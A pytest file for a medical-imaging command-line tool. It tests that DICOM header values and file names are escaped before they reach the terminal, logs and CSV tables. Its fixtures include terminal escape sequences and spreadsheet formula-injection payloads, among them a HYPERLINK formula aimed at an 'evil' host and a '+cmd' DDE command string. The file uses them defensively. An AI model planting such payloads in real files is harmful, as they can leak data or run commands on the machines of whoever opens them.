"""Untrusted text never reaches the terminal, a log or a table raw (SECURITY.md §7, issues 12/13 follow-up).

Inputs generated here: Study Instance UIDs carrying terminal escapes (OSC title + clear screen + colour), NUL and
C1 controls, a 401-character UID, a multi-valued UID ``..\\..\\win``, a missing UID; file names carrying terminal
escapes, a carriage return and a TAB; header values that a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import fcntl
import json
import os
import re
import socket
import stat
from pathlib import Path

import pydicom
import pytest

from medvit.cli.main import main
from medvit.infer.lock import OutputLock
from medvit.io.text import csv_cell, escape_text, header_text
from tests.infer.helpers import make_model, write_dx

ESC_UID = "1.2.\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mRED"
NUL_C1_UID = "1.2.3\x00\x9b31m\x85"
LONG_UID = "1." * 200 + "1"
ESC_NAME = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mred.dcm"
RAW = ("\x1b", "\x00", "\x07", "\x9b", "\x85", "\r")
SAFE_NAME = re.compile(r"^(h-[0-9a-f]{32}|no-study-uid)$")


def test_escape_text_and_csv_cell():
    assert escape_text("a\x1b[2Jb\x00\x7f\x9b\r\n\t") == "a\\x1b[2Jb\\x00\\x7f\\x9b\\x0d\\x0a\\x09"
    assert escape_text("caf\udce9.dcm") == "caf\\xe9.dcm"  # a Latin-1 byte of a file name (PEP 383)
    assert escape_text("x\u202eevil") == "x\\u202eevil"  # bidirectional override
    assert escape_text("Müller ..\\x") == "Müller ..\\x"  # printable text unchanged
    assert escape_text("a\nb", keep_newlines=True) == "a\nb"
    assert csv_cell("cr\rname") == "cr\\x0dname"
    assert csv_cell("\t=1") == "\\x09=1"  # escaped: no longer a formula, nor a split cell
    assert csv_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)" and csv_cell("+cmd|x") == "'+cmd|x"
    assert csv_cell(-1.5) == -1.5
    assert header_text(pydicom.multival.MultiValue(str, ["..", "..", "win"])) == "..\\..\\win"


def _inputs(inp: Path) -> None:
    inp.mkdir(parents=True)
    study = "1.2.826.0.1.3680043.8.498.1"
    write_dx(inp / "cr\rname.dcm", study, "1.2.826.0.1.3680043.8.498.2", seed=1)
    write_dx(inp / "tab\tname.dcm", study, "1.2.826.0.1.3680043.8.498.2", seed=2)
    for i, uid in enumerate((ESC_UID, NUL_C1_UID, LONG_UID, "..\\..\\win", "")):
        p = write_dx(inp / f"uid{i}.dcm", "1.2.826.0.1.3680043.8.498.9", "1.2.826.0.1.3680043.8.498.10", seed=3 + i)
        ds = pydicom.dcmread(p)
        if uid:
            ds.StudyInstanceUID = uid
        else:
            del ds.StudyInstanceUID
        ds.save_as(p, enforce_file_format=True)
    good = write_dx(inp / "src.dcm", "1.2.826.0.1.3680043.8.498.11", "1.2.826.0.1.3680043.8.498.12", seed=9)
    (inp / ESC_NAME).write_bytes(good.read_bytes()[:-500])  # truncated: a FAILED line names it
    good.unlink()


def _no_raw_controls(text: str, where: str) -> None:
    found = [c for c in RAW if c in text]
    assert not found, f"{where} carries raw control characters {found!r}"


@pytest.mark.parametrize("deidentify", [False, True])
def test_header_values_and_file_names_reach_terminal_log_and_tables_escaped(tmp_path, capfd, caplog, deidentify):
    model = make_model(tmp_path / "model")
    inp = tmp_path / "in"
    _inputs(inp)
    out = tmp_path / "out"
    extra = ["--deidentify", "--deid-key", str(tmp_path / "k.key")] if deidentify else []
    rc = main(["infer", "-m", str(model), "-i", str(inp), "-o", str(out), "--sr", "--heatmaps", "--workers", "0",
               "--quiet", *extra])
    term = capfd.readouterr()
    assert rc == 3  # the truncated file failed (and, without --deidentify, SRs)
    logged = "\n".join(r.getMessage() for r in caplog.records)  # what the terminal's log handler receives
    _no_raw_controls(term.out + term.err + logged, "the terminal")
    assert "FAILED \\x1b]0;PWNED\\x07\\x1b[2J\\x1b[31mred.dcm at decode" in logged
    _no_raw_controls((out / "infer.log").read_text(encoding="utf-8"), "infer.log")
    for table in out.glob("*.csv"):
        text = table.read_text(encoding="utf-8")
        _no_raw_controls(text, table.name)
        assert "['" not in text, f"{table.name} holds a Python list repr"
        with open(table, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        assert len(rows) == text.count("\n"), f"a cell of {table.name} spans lines"
    with open(out / "status.csv", newline="", encoding="utf-8") as f:
        status = {r["file"]: r for r in csv.DictReader(f)}
    assert len(status) == 8 and {"cr\\x0dname.dcm", "tab\\x09name.dcm", ESC_NAME.replace("\x1b", "\\x1b")
                                 .replace("\x07", "\\x07")} <= set(status)
    rows = [json.loads(line) for line in (out / "predictions.jsonl").read_text().splitlines()]
    assert len(rows) == 7
    if not deidentify:
        by_file = {r["file"]: r for r in rows}
        assert by_file["uid3.dcm"]["study_instance_uid"] == "..\\..\\win"  # one (invalid) text, not a list
        with open(out / "sr_errors.csv", newline="", encoding="utf-8") as f:
            errs = list(csv.DictReader(f))
        assert len(errs) == 5 and all(SAFE_NAME.match(e["study"]) for e in errs)
        reasons = sorted(e["reason"].split(";")[0] for e in errs)
        assert reasons == ["1 predicted image(s) with an invalid Study Instance UID (not a UID per PS3.5 9.1)"] * 4 \
            + ["1 predicted image(s) with no Study Instance UID"]
        assert "SR: 1 written, 5 failed (sr_errors.csv)" in term.out
        assert len(list((out / "sr").glob("*.dcm"))) == 1
    else:  # de-identification replaces every UID, so each study named by the source gets its SR
        assert "SR: 5 written, 1 failed (sr_errors.csv)" in term.out
        assert len(list((out / "sr").glob("*.dcm"))) == 5
    for d in [out, *(p for p in out.rglob("*") if p.is_dir())]:
        assert stat.S_IMODE(d.stat().st_mode) == 0o700, d


def test_dicom_index_and_info_escape_cells_and_file_names(tmp_path, capfd):
    inp = tmp_path / "in"
    inp.mkdir()
    p = write_dx(inp / "cr\rname.dcm", "1.2.826.0.1.3680043.8.498.1", "1.2.826.0.1.3680043.8.498.2",
                 patient='=HYPERLINK("http://evil/"&A1)')
    ds = pydicom.dcmread(p)
    ds.AccessionNumber = "+cmd|' /C calc'!A0"
    ds.StudyDescription = "line\rbreak\x1b[2J"
    ds.save_as(p, enforce_file_format=True)
    (inp / ESC_NAME).write_bytes(p.read_bytes()[:-500])
    out = tmp_path / "index.csv"
    assert main(["dicom", "index", str(inp), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    _no_raw_controls(text, "index.csv")
    with open(out, newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["patient_id"] == "'=HYPERLINK(\"http://evil/\"&A1)" and row["accession_number"].startswith("'+cmd")
    assert row["study_description"] == "line\\x0dbreak\\x1b[2J" and "\\x1b]0;PWNED\\x07" in row["first_file"]
    capfd.readouterr()
    assert main(["dicom", "info", str(inp / ESC_NAME)]) == 2
    err = capfd.readouterr().err
    _no_raw_controls(err, "dicom info's error")
    assert "\\x1b]0;PWNED\\x07" in err


def test_locked_output_is_one_error_line_naming_the_real_holder(tmp_path, capfd):
    model = make_model(tmp_path / "model")
    inp = tmp_path / "in"
    write_dx(inp / "a.dcm", "1.2.826.0.1.3680043.8.498.1", "1.2.826.0.1.3680043.8.498.2")
    out = tmp_path / "out"
    args = ["infer", "-m", str(model), "-i", str(inp), "-o", str(out), "--workers", "0", "--quiet"]
    with OutputLock(out / ".medvit-infer"):
        assert main(args) == 2
    err = capfd.readouterr().err
    assert err.count("\n") == 1 and err.startswith("medvit infer: error: ") and f"pid {os.getpid()}" in err
    assert "Traceback" not in err
    lock = out / ".medvit-infer" / "lock"
    assert lock.read_bytes() == b""  # released: no pid left behind to be named later
    # a stale pid in the file (a killed run) while another process holds the lock: the real holder is named
    lock.write_text(json.dumps({"pid": 999999999, "host": socket.gethostname()}))
    fd = os.open(lock, os.O_RDWR)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        assert main(args) == 2
    finally:
        os.close(fd)
    err = capfd.readouterr().err
    assert "999999999" not in err and f"pid {os.getpid()}" in err
    assert main(args) == 0  # free again: the run goes ahead
